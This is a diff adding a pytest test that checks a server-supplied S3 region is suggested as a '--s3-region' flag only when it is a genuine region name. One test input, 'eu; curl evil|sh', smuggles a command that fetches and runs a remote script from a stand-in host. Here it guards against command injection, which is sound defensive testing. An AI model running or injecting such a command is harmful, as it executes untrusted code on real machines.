@@ -130,6 +130,18 @@ def test_every_right_that_is_missing_is_named(allowed: set[str], rights: list[st
     assert len(left) == ("s3:DeleteObject" in rights)
 
 
+@pytest.mark.parametrize(
+    ("said", "hint"),
+    [("eu-1", "--s3-region eu-1"), ("eu; curl evil|sh", "is that the S3 interface"), ("us-east-1", "is")],
+)
+def test_a_region_is_typed_only_where_it_is_one(said: str, hint: str) -> None:
+    data = f"<Error><Code>AuthorizationHeaderMalformed</Code><Region>{said}</Region></Error>".encode()
+    with mock.patch.object(bucket.Bucket, "send", return_value=bucket.Answer(400, data, said, None)):
+        problem = storage_problem(S3Storage("b", "", "https://s3.corp"), KEYS)
+    assert problem and str(problem.hint).startswith(hint)
+    assert ("in the region" in problem.message) == (said == "eu-1")
+
+
 def test_an_address_that_the_container_does_not_reach(tmp_path: Path) -> None:
     (tmp_path / "etc").mkdir()
     (tmp_path / "etc/hosts").write_text("192.0.2.7 s3.corp\n")
